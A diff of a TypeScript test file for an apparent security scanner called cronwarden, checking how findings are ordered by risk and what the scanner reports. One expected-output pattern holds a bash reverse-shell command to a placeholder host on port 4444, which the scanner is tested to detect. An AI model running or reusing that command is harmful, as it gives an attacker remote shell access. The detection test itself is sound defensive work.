@@ -101,7 +101,7 @@ test('groups are ordered by severity, then by risk', async () => {
     ...Array.from({ length: 2 }, () => 'LOW'),
     'INFO',
   ]);
-  assert.ok(text.indexOf(reverseShell.id) < text.indexOf(hostRootJob.id), 'risk 96 before risk 93');
+  assert.ok(text.indexOf('risk 96') >= 0 && text.indexOf('risk 96') < text.indexOf('risk 93'));
 });
 
 const says: readonly { situation: string; finding: Finding; expect: readonly RegExp[] }[] = [
@@ -112,7 +112,7 @@ const says: readonly { situation: string; finding: Finding; expect: readonly Reg
       /sync › containers\[0\]\.args\[0\], decoded from base64, then gzip/,
       /= bash -i >& \/dev\/tcp\/203\.0\.113\.7\/4444 0>&1/,
       /from 192\.0\.2\.14, claiming 198\.51\.100\.23/,
-      /cronwarden explain a3f81c0de97b4c02/,
+      /cronwarden explain command\.reverse-shell/,
     ],
   },
   {
